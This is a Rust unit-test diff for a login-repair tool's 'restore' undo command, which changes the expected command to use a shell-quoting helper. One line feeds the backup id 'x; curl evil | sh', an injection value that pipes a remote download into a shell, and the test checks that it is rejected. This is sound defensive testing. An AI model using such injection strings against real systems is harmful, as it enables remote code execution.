@@ -1037,13 +1037,14 @@ mod tests {
         };
         set(&mut report, "20261207T054609Z-624558730-28274-0");
         own_undo(&job, &layout, &ctx, &mut report);
-        assert_eq!(
-            undo(&report).unwrap(),
-            format!(
-                "loginfix --home {} restore 20261207T054609Z-624558730-28274-0",
-                home.path().display()
-            )
+        // The home as the shell needs it quoted on this OS, then the id.
+        let want = crate::report::undo_command(
+            &["--home".to_string(), home.path().display().to_string()],
+            None,
+            "20261207T054609Z-624558730-28274-0",
         );
+        assert_eq!(undo(&report).unwrap(), want);
+        assert!(want.ends_with(" restore 20261207T054609Z-624558730-28274-0"));
         set(&mut report, "x; curl evil | sh");
         own_undo(&job, &layout, &ctx, &mut report);
         assert_eq!(undo(&report), None);
